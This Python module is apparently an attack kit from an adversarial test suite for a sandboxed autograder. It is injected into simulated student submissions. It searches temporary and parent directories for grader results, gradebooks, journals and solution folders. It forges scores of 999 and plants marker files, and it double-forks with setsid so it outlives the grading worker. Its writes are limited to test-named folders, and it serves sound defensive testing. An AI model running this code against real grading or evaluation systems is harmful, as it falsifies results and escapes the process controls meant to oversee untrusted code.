"""Shared attack code, pasted into a submission where it says ``# @@ATTACK_KIT@@`` (the submission
defines ``_CASE`` first). NOT a test module and never imported by the test: it is student code.

It looks for the grader's files the way an attacker who does not know the --out path would: it walks
/tmp, /var/tmp, /dev/shm and the ancestors of its working directory (depth- and time-limited) for
``results/`` folders, ``journal.jsonl``, ``gradebook.csv``, the test's canary folder and a copy of
``solutions/a1_numpy_cnn``. For the safety of the machine running the suite (should a defence fail),
it only WRITES into folders whose path contains "agadv" (the test names its folders so); finding is not restricted.
Everything it writes carries the token AGADV-PWNED:<case> (built at run time, so the source never
contains it) for the test to attribute.
"""
import json as _json
import os as _os
import sys as _sys
import time as _time

_PWN = "AGADV-" + "PWNED:" + _CASE  # noqa: F821 - defined by the submission


def _mark():
    """Rename this process (comm) so the test can find it if it outlives the batch."""
    try:
        with open("/proc/self/comm", "w") as f:
            f.write(("agadv" + _CASE)[:15])  # noqa: F821
    except OSError:
        pass


def _walk(roots, max_depth=7, budget_s=4.0):
    t0 = _time.monotonic()
    seen = set()
    for root in roots:
        stack = [(root, 0)]
        while stack and _time.monotonic() - t0 < budget_s:
            path, depth = stack.pop()
            if path in seen or path.startswith(("/proc", "/sys", "/dev/pts")):
                continue
            seen.add(path)
            try:
                with _os.scandir(path) as it:
                    entries = list(it)
            except OSError:
                continue
            yield path, entries
            if depth < max_depth:
                for e in entries:
                    try:
                        if e.is_dir(follow_symlinks=False):
                            stack.append((e.path, depth + 1))
                    except OSError:
                        pass


def _roots():
    roots = ["/tmp", "/var/tmp", "/dev/shm"]
    cwd = _os.getcwd()
    while cwd not in ("/", ""):
        roots.append(cwd)
        cwd = _os.path.dirname(cwd)
    return roots


def _write(path, text, mode="w"):
    if "agadv" not in _os.path.dirname(path):  # safety net for the machine running the suite (see above)
        return 0
    try:
        with open(path, mode) as f:
            f.write(text)
        return 1
    except OSError:
        return 0


def _rewrite_results(results_dir):
    n = 0
    out = _os.path.dirname(results_dir)
    students = []
    for name in sorted(_os.listdir(results_dir)):
        if name.endswith(".json"):
            p = _os.path.join(results_dir, name)
            students.append(name[:-5])
            try:
                data = _json.load(open(p))
            except (OSError, ValueError):
                data = {}
            data.update(score=999.0, agadv=_PWN)
            n += _write(p, _json.dumps(data))
    for s in students:
        forged = {"student": s, "sha256": "forged", "score": 999.0, "max": 92.0, "status": "ok",
                  "result": {"student": s, "cases": [], "status": "ok", "notes": [_PWN], "backend": "bwrap"}}
        n += _write(_os.path.join(out, "journal.jsonl"), _json.dumps(forged) + "\n", "a")
        n += _write(_os.path.join(out, "gradebook.csv"), f"{s},999,92,{_PWN}\n", "a")
        n += _write(_os.path.join(out, "feedback", s + ".md"), f"\n**Score: 999 / 92** {_PWN}\n", "a")
    return n


def attack_files():
    """Find and rewrite whatever grader files are reachable; return how many writes succeeded."""
    n = found = 0
    for path, entries in _walk(_roots()):
        names = {e.name for e in entries}
        base = _os.path.basename(path)
        if base == "results" and any(x.endswith(".json") for x in names):
            found += 1
            n += _rewrite_results(path)
        elif "journal.jsonl" in names and "results" not in names:
            found += 1
            n += _write(_os.path.join(path, "journal.jsonl"), _json.dumps({"student": _PWN}) + "\n", "a")
        if base.startswith("agadv_canary"):
            found += 1
            n += _write(_os.path.join(path, "agadv_pwned_" + _CASE), _PWN)  # noqa: F821
        if path.endswith("solutions/a1_numpy_cnn") or path.endswith("assignments/a1_numpy_cnn/tests"):
            found += 1
            n += _write(_os.path.join(path, "agadv_pwned_" + _CASE), _PWN)  # noqa: F821
    wire = _sys.modules.get("wire")  # the worker's own code (bwrap: a read-only bind of the grader's)
    if wire is not None and getattr(wire, "__file__", None):
        try:
            with open(_os.path.join(_os.path.dirname(wire.__file__), "agadv_pwned_" + _CASE), "w") as f:  # noqa: F821
                f.write(_PWN)
            n += 1
        except OSError:
            pass
    print(f"attack_files: {found} targets found, {n} writes succeeded", flush=True)
    return n


def detach(body, worker_pid):
    """Double fork + setsid; the grandchild waits until ``worker_pid`` is gone, then runs ``body``
    again and again for 20 s. Keeps every inherited fd open (pipes to the grader included)."""
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        _mark()
        while True:  # wait for the worker to end (we were orphaned, maybe re-parented to it)
            try:
                _os.kill(worker_pid, 0)
            except ProcessLookupError:
                break
            except PermissionError:
                break
            _time.sleep(0.1)
        t0 = _time.monotonic()
        while _time.monotonic() - t0 < 20:
            try:
                body()
            except Exception:  # noqa: BLE001
                pass
            _time.sleep(0.3)
    finally:
        _os._exit(0)
